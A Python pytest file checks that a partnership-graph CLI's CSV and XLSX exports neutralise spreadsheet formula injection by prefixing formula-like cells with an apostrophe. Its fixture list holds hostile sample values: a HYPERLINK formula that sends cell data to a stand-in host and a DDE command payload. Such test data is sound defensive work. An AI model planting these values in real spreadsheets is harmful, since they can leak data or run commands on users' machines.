"""CSV and XLSX exports show formula-like names as text, never as formulas.

Names such as ``=HYPERLINK(…)`` or ``=cmd|' /C calc'!A0`` are stored
verbatim (the corpus proves it); a spreadsheet opening an export must not
run them. Exported cells that start like a formula are prefixed with ``'``,
in query results, in ``iekg cypher`` results and in the rejected rows that
``--skip-invalid`` writes back.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner, Result

from iekg.cli import cli
from iekg.output import format_frame, write_frame

from .corpus import BAD

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+1有限公司",
    "-2+3有限公司",
    "@SUM(1+1)有限公司",
]


def iekg(*args: str) -> Result:
    result = CliRunner().invoke(cli, list(args))
    assert result.exit_code == 0, result.output
    return result


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The sample, the corpus's formula names, and each of them partnering 绍兴中专."""
    folder = tmp_path_factory.mktemp("formulas")
    sheet = folder / "partnerships.csv"
    with sheet.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["学校", "企业"])
        writer.writerows(["绍兴中专", name] for name in FORMULA_NAMES)
    store = folder / "store"
    iekg("build", "--store", str(store))
    iekg("build", str(BAD / "formulas" / "formula_names.csv"), "--store", str(store))
    iekg("build", str(sheet), "--store", str(store))
    return store


def rows(text: str) -> list[list[str]]:
    """CSV text read as a spreadsheet would (a quoted CR stays in its cell)."""
    return list(csv.reader(io.StringIO(text, newline="")))


def _check_cells(rows: list[list[str]]) -> None:
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    for name in FORMULA_NAMES:
        assert "'" + name in cells, name


def test_query_results_as_csv_neutralise_formulas(store: Path, tmp_path: Path) -> None:
    out = tmp_path / "links.csv"
    iekg("query", "connections", "--format", "csv", "-o", str(out), "--store", str(store))
    _check_cells(rows(out.read_text("utf-8-sig")))
    shown = iekg("query", "connections", "--format", "csv", "--store", str(store)).stdout
    _check_cells(rows(shown))


def test_query_results_as_xlsx_hold_formulas_as_text(store: Path, tmp_path: Path) -> None:
    out = tmp_path / "links.xlsx"
    iekg("query", "connections", "--format", "xlsx", "-o", str(out), "--store", str(store))
    sheet = openpyxl.load_workbook(out).active  # formulas are kept as formulas when read so
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
    _check_cells([texts])


def test_every_formula_start_is_neutralised_in_both_formats(tmp_path: Path) -> None:
    values = ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "绍兴中专", "a=b"]
    frame = pd.DataFrame({"name": values, "n": range(len(values))})
    text = format_frame(frame, "csv")
    column = [row[0] for row in rows(text)][1:]
    assert column == ["'=1+1", "'+1", "'-1", "'@A1", "'\t=1", "'\r=1", "绍兴中专", "a=b"]
    book = openpyxl.load_workbook(write_frame(frame, "xlsx", tmp_path / "t.xlsx"))
    cells = [c for c in book.active["A"][1:]]
    # XML keeps no bare CR: the XLSX cell holds a line feed there.
    assert [c.value for c in cells] == [v.replace("\r", "\n") for v in column]
    assert {c.data_type for c in cells} == {"s"}
    assert [c.value for c in book.active["B"][1:]] == list(range(len(values)))  # numbers stay


def test_rejected_rows_written_back_neutralise_formulas(tmp_path: Path) -> None:
    args = ["build", str(BAD / "formulas" / "formula_kind.csv"), "--skip-invalid"]
    iekg(*args, "--rejects-dir", str(tmp_path / "out"), "--store", str(tmp_path / "s"))
    rejects = (tmp_path / "out" / "formula_kind.csv.rejects.csv").read_text("utf-8-sig")
    written = rows(rejects)
    assert [row[2] for row in written[1:]] == ['\'=HYPERLINK("x","企业")']
    assert not [c for row in written for c in row if c.startswith(FORMULA_START)]


@pytest.mark.neo4j
def test_cypher_results_as_xlsx_and_csv_neutralise_formulas(
    store: Path, tmp_path: Path, neo4j_store: object, monkeypatch: pytest.MonkeyPatch
) -> None:
    from graph.embedded_store import EmbeddedStore
    from graph.neo4j_store import Neo4jStore

    assert isinstance(neo4j_store, Neo4jStore)
    neo4j_store.push(EmbeddedStore(store).read_graph())
    monkeypatch.setenv("NEO4J_URI", neo4j_store.uri)
    monkeypatch.delenv("NEO4J_PASSWORD", raising=False)
    query = "MATCH (e:Enterprise) RETURN e.name AS name ORDER BY name"
    out = tmp_path / "names.xlsx"
    iekg("cypher", query, "--format", "xlsx", "-o", str(out))
    cells = [c for c in openpyxl.load_workbook(out).active["A"][1:]]
    assert {c.data_type for c in cells} == {"s"}
    _check_cells([[c.value for c in cells]])
    shown = iekg("cypher", query, "--format", "csv").stdout
    _check_cells(rows(shown))
